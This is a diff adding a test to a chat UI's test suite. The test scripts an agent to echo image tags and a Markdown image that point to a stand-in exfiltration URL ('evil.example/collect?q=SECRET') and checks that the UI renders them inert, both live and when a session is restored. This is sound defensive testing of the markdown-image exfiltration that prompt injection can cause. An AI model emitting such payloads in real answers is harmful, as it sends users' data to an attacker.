@@ -185,6 +185,41 @@ async def test_reload_restores_from_the_agent_or_else_from_the_browser_copy(scri
     assert (await ui.restore("garbage"))[0] == "Travel"
 
 
+def loadable(messages: list[dict]) -> list[str]:
+    """Contents the browser could turn into a request: an HTML tag opener or a Markdown image."""
+    return [m["content"] for m in messages if re.search(r"<[A-Za-z/!?]|!\[", m["content"])]
+
+
+async def test_answers_quoting_a_hostile_page_reach_the_page_inert(real_agent, client) -> None:
+    llm, url = real_agent
+    request = f"show me the map {uuid.uuid4().hex[:6]}"
+    exfil = "http://evil.example/collect?q=SECRET"
+    llm.playbooks[request] = Playbook(
+        [
+            Turn(tool_calls=[("echo", {"text": f'<img src="{exfil}">'})]),
+            Turn(text=f"Here: ![map]({exfil}) <img src={exfil}>"),
+        ]
+    )
+    ui = ChatUI({"Tester": url}, client)
+    updates = await run_send(ui, request, "Tester", {})
+    assert all(not loadable(update[0]) for update in updates if update[0] != SKIP)  # mid-stream too
+    chat, _, thread, _, stored = updates[-1]
+    assert chat[-1]["content"].startswith(f"Here: [image: map]({exfil}) &lt;img src={exfil}>")
+    step = next(m for m in chat if is_step(m))
+    assert f'<img src="{exfil}">' in step["content"].replace("\u2060", "")  # the result still reads as sent
+    assert stored["messages"] == chat
+
+    _, restored, _, status, _ = await ui.restore(stored)  # rendered from the agent's thread API
+    assert "from the **Tester** agent" in status and restored and not loadable(restored)
+    raw_copy = {
+        **stored,
+        "thread_id": "gone-1",
+        "messages": [{"role": "assistant", "content": f"![x]({exfil})"}],
+    }
+    _, restored, _, _, session = await ui.restore(raw_copy)  # an old browser copy holding raw markup
+    assert restored == session["messages"] == [{"role": "assistant", "content": f"[image: x]({exfil})"}]
+
+
 async def test_continue_thread_by_id(scripted, client) -> None:
     agent, url = scripted
     ui = ChatUI({"Travel": url}, client)
